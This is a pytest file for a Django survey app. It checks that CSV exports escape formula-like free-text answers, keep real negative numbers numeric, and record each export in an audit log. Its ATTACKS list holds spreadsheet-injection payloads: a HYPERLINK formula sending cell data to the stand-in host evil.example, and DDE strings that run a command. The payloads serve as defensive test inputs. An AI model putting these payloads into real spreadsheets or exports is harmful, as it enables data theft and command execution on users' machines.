"""The survey export: free text cannot become a spreadsheet formula, and every export is audited."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from surveys.models import Status
from tests.auth import verified_login
from tests.surveys.helpers import add_responses
from tests.surveys.test_results import answers
from workplace.models import AuditAction, AuditEvent

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("https://evil.example/?d="&A1;"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
]


@pytest.fixture
def closed(gentco):
    gentco.status = Status.CLOSED
    gentco.save()
    return gentco


def exported_rows(client, survey) -> list[list[str]]:
    response = client.get(reverse("surveys:export", args=[survey.pk]))
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_free_text_answer_that_looks_like_a_formula_is_exported_as_text(
    client, hr, closed, attack
):
    add_responses(closed, 5, answers=answers(closed, idea=attack))
    verified_login(client, hr)
    column = exported_rows(client, closed)[0].index("aantrekkelijker")
    cell = exported_rows(client, closed)[1][column]
    assert cell == "'" + attack


def test_genuine_numbers_stay_numbers_also_when_negative(client, hr, closed):
    add_responses(closed, 5, answers=answers(closed, minutes=-5, idea="-12,5"))
    verified_login(client, hr)
    rows = exported_rows(client, closed)
    assert rows[1][rows[0].index("leestijd")] == "-5"
    assert rows[1][rows[0].index("aantrekkelijker")] == "-12,5"
    assert rows[1][rows[0].index("aanbevelen")] == "8"


def test_an_export_is_recorded_in_the_audit_log(client, hr, closed):
    add_responses(closed, 5, answers=answers(closed))
    verified_login(client, hr)
    exported_rows(client, closed)
    event = AuditEvent.objects.get(action=AuditAction.EXPORT)
    assert event.actor == hr
    assert event.target_id == str(closed.pk) and event.target_type == "surveys.survey"
    assert event.detail == {"export": "survey_answers", "rows": 5, "format": "csv"}
